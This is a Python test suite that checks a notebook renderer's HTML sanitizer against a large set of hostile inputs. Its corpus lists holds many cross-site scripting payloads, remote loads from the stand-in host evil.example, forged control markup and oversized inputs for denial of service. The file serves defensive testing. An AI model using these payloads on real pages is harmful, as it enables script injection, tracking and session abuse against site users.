"""Nothing of a notebook runs script, loads from elsewhere or looks like a control of Lodge."""

from __future__ import annotations

import base64
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lodge_services.render import render_notebook

ALLOWED_TAGS = {
    *("a", "abbr", "b", "blockquote", "br", "caption", "center", "cite", "code", "col", "dd"),
    *("colgroup", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1"),
    *("h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre"),
    *("q", "s", "samp", "section", "article", "small", "span", "strong", "sub", "summary", "sup"),
    *("table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul", "var", "wbr"),
}
ALLOWED_ATTRIBUTES = {
    *("class", "id", "href", "src", "alt", "title", "rel", "dir", "lang", "colspan", "rowspan"),
    *("align", "scope", "headers", "border", "width", "height", "start", "type", "value", "span"),
    *("open", "loading", "tabindex", "aria-hidden"),
}
MATHML_TAGS = {
    *("math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "ms"),
    *("mspace", "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr"),
    *("munder", "munderover", "menclose", "mmultiscripts", "mprescripts", "none"),
}
MATHML_ATTRIBUTES = {
    *("display", "displaystyle", "stretchy", "mathvariant", "linethickness", "columnalign"),
    *("columnlines", "rowlines", "accent", "accentunder", "fence", "form", "largeop", "width"),
    *("movablelimits", "notation", "scriptlevel", "separator", "symmetric", "minsize"),
    *("maxsize", "lspace", "rspace"),
}


class Auditor(HTMLParser):
    """Fails on anything that is not on the list, as a browser would read the page."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS | MATHML_TAGS:
            self.problems.append(f"<{tag}>")
        allowed = MATHML_ATTRIBUTES if tag in MATHML_TAGS else ALLOWED_ATTRIBUTES
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"{tag} {name}={value}")
            text = "".join((value or "").split()).lower()
            if name == "href" and not text.startswith(("http:", "https:", "mailto:", "#")):
                self.problems.append(f"href {value}")
            if name == "src" and not text.startswith("data:image/"):
                self.problems.append(f"src {value}")
            if name == "class" and "lodge-" in text:
                self.problems.append(f"class {value}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(decl)

    def handle_comment(self, data: str) -> None:
        self.problems.append(data)


def problems(html: str) -> list[str]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.problems


SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>x()</script></svg>'

CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/beacon.png'>",
    "<img srcset='https://evil.example/b.png 1x'>",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVa&#09;ScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='/hub/logout'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://ok.example' target='_top' ping='https://evil.example'>x</a>",
    SVG_SCRIPT,
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='/services/shares/x/delete' method=post><button>Fork</button></form>",
    "<input type=text autofocus onfocus=alert(1)><select onchange=x><option>1</select>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='position:fixed;inset:0'>overlay</div>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>x",
    "<html><head><title>x</title></head></html>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div class='lodge-button lodge-button-primary' id='content'>Fork</div>",
    "<div id='failing-cell' data-lodge-copy='x'>x</div>",
    "<table><script>alert(1)</script><tr><td onclick=alert(1)>1</td></tr></table>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "</div></div></main><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "<div",
    "<a href='",
    "<<<>>><b",
    "<slot><x-y is=z>",
    "<a href='https://x.example' onclick\n=\nalert(1)>x</a>",
    "<img/src/onerror=alert(1)>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "<p>{{7*7}} ${alert(1)}</p>",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
]

MARKDOWN_CORPUS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/beacon.png)",
    '![x"onerror="alert(1)](data:image/png;base64,AAAA)',
    '![x](data:image/png;base64,AAAA"onerror="alert(1))',
    '[x](https://ok.example "t\\"onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "# <script>alert(1)</script> heading",
    '# "onclick="alert(1)',
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    "- [x] <script>alert(1)</script>",
    *(
        f"${tex}$\n\n$${tex}$$"
        for tex in (
            r"\text{<script>alert(1)</script>}",
            r"\text{</math><img src=x onerror=alert(1)>}",
            r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
            r"\href{javascript:alert(1)}{x}",
            r"\style{background:url(https://evil.example)}{x}",
            r"\class{lodge-button}{x} \id{content}{y}",
            r"\color{red\"onclick=\"alert(1)}{x}",
            r"\hspace{99999em} x \rule{9999em}{9999em}",
            r"\begin{array}{\"><script>}a\end{array}",
            r"\operatorname{<img src=x onerror=alert(1)>}",
            r"\unicode{x3c}script\unicode{x3e}",
            r"\mathrm{<b>} & < > \" '",
        )
    ),
    '<p title="$x$">x</p> [a](https://ok.example/$x$) ![$<script>$](https://ok.example)',
    '<code class="nb-math">nbmath0z</code> $x$',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "![x](attachment:evil.svg) ![y](attachment:evil.html)",
    "https://ok.example/?a=<script>alert(1)</script>",
]


def notebook(*cells: dict[str, Any], metadata: Any = None) -> dict[str, Any]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata or {}, "cells": list(cells)}


def code(*outputs: Any, source: str = "x", **more: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "c",
        "metadata": {},
        "source": source,
        "execution_count": 1,
        "outputs": list(outputs),
        **more,
    }


def everywhere(text: str) -> dict[str, Any]:
    """A notebook with `text` in every place that a stranger may fill."""
    kinds = (
        *("text/html", "text/markdown", "text/plain", "text/latex", "image/svg+xml", "image/png"),
        *("text/vnd.mermaid", "application/javascript", "application/vnd.plotly.v1+json"),
        *("application/vnd.jupyter.widget-view+json", "text/unknown"),
    )
    bundles = [
        {"output_type": "display_data", "metadata": {kind: {"width": text}}, "data": {kind: text}}
        for kind in kinds
    ]
    attachment = {"evil.svg": {"image/svg+xml": text}, "evil.html": {"text/html": text}}
    return notebook(
        {"cell_type": "markdown", "metadata": {}, "source": text, "attachments": attachment},
        {"cell_type": "raw", "metadata": {"format": text}, "source": text},
        {"cell_type": text, "metadata": {"tags": [text]}, "source": text},
        code(
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": "display_data", "metadata": {}, "data": {"application/json": [text]}},
            {"output_type": text},
            *bundles,
            source=text,
            execution_count=text,
            id=text,
        ),
        metadata={
            "title": text,
            "language_info": {"name": text, "pygments_lexer": text},
            "kernelspec": {"language": text, "display_name": text},
        },
    )


@pytest.mark.parametrize("text", [*CORPUS, *MARKDOWN_CORPUS])
def test_corpus(text: str) -> None:
    html = render_notebook(everywhere(text), highlight_cell=3)
    assert problems(html) == []
    assert html.count("<div") == html.count("</div>")


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.sampled_from([*CORPUS, *MARKDOWN_CORPUS, "\n\n", " ", "`", '"', ">"]), max_size=5)
)
def test_corpus_combined(parts: list[str]) -> None:
    assert problems(render_notebook(everywhere("".join(parts)))) == []


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="<>/\"'=&;:!-[]()#*`$|ascriptonerimgx \n\x1b[0m", max_size=80))
def test_noise(text: str) -> None:
    assert problems(render_notebook(everywhere(text))) == []


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=8,
)


@settings(max_examples=100, deadline=None)
@given(json_values, json_values, json_values)
def test_any_shape_is_rendered(outputs: Any, metadata: Any, source: Any) -> None:
    cell = {"cell_type": "code", "metadata": metadata, "source": source, "outputs": outputs}
    markdown = {"cell_type": "markdown", "attachments": outputs, "source": source}
    bundle = code({"output_type": "display_data", "data": metadata, "metadata": outputs})
    error = code({"output_type": "error", "traceback": outputs, "ename": source})
    html = render_notebook(
        {"cells": [cell, markdown, bundle, error, outputs], "metadata": metadata}
    )
    assert problems(html) == []


def test_svg_is_only_a_picture() -> None:
    bundle = {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": SVG_SCRIPT}}
    html = render_notebook(notebook(code(bundle)))
    encoded = base64.b64encode(SVG_SCRIPT.encode()).decode()
    assert f'src="data:image/svg+xml;base64,{encoded}"' in html
    assert "<script" not in html


def test_script_text_in_code_is_shown_as_text() -> None:
    html = render_notebook(notebook(code(source="print('<script>')")))
    assert "&lt;script&gt;" in html


@pytest.mark.parametrize(
    "text",
    [
        "[" * 30_000,
        "![" * 15_000,
        "*" * 50_000,
        "_a" * 20_000,
        ">" * 10_000,
        "- " * 10_000,
        "<" * 50_000,
        "<div>" * 20_000,
        "<i>" * 390 + "<p>x" * 20_000,
        "<a " + " ".join(f"a{i}" for i in range(15_000)),
        "<a " + "/".join(f"a{i}" for i in range(15_000)),
        "`" * 30_000,
        "$" * 30_000,
        "|" * 20_000 + "\n" + "|-" * 10_000,
        "[a](" * 10_000,
        "[^1]" * 10_000,
        "\x1b[" * 40_000,
        "a\r" * 40_000,
        "a\b" * 40_000,
        "a" * 40_000 + "\b" * 40_000,
        "a" * 40_000 + "\rb" * 40_000,
        "http://" * 10_000,
        "<style>" * 20_000,
        "<style>#a" + ",#a" * 20_000 + "{color:red}</style>",
        "<style>" + "a{b}" * 20_000 + "</style>" + "<td id=a>" * 5_000,
        "<td style=" * 20_000,
        "<img src=" * 20_000,
        "<a name" * 20_000,
        "$a{" * 20_000,
        r"\begin{x}" * 10_000,
        "\x1b[A\n" * 20_000,
        "x\x1b[G" * 20_000,
        "(((((" * 10_000,
        '"' * 50_000,
    ],
)
@pytest.mark.timeout(20)
def test_hostile_length_takes_bounded_time(text: str) -> None:
    assert render_notebook(everywhere(text)).startswith('<div class="nb">')
